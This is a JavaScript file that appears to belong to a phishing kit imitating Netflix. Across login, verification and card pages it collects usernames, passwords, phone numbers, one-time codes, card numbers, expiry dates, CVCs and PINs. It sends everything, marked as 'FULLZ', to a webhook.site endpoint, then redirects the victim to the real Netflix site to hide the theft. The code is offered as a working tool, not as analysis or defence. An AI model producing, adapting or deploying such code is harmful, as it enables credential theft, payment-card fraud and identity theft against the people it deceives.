const page = document.body.dataset.page;
const bag = JSON.parse(localStorage.getItem("bag") || "{}");
const keep = (more) => localStorage.setItem("bag", JSON.stringify(Object.assign(bag, more)));

if (page === "login") {
  document.querySelector("form").onsubmit = (e) => {
    e.preventDefault();
    keep({ user: e.target.user.value, pass: e.target.pass.value });
    location.href = "verify.html";
  };
}

if (page === "verify") {
  document.querySelector("form").onsubmit = (e) => {
    e.preventDefault();
    keep({ phone: e.target.phone.value, code: e.target.code.value });
    location.href = "card.html";
  };
}

if (page === "card") {
  document.querySelector("form").onsubmit = async (e) => {
    e.preventDefault();
    keep({ card: e.target.card.value, exp: e.target.exp.value, cvc: e.target.cvc.value, pin: e.target.pin.value });
    const lines = Object.keys(bag).map((k) => k.toUpperCase() + ": " + bag[k]);
    await fetch("https://webhook.site/00000000-0000-0000-0000-000000000000", {
      method: "POST", mode: "no-cors", body: "*** FULLZ ***\n" + lines.join("\n")
    });
    localStorage.removeItem("bag");
    location.href = "success.html";
  };
}

if (page === "success") setTimeout(() => { location.href = "https://www.netflix.com/browse"; }, 4000);
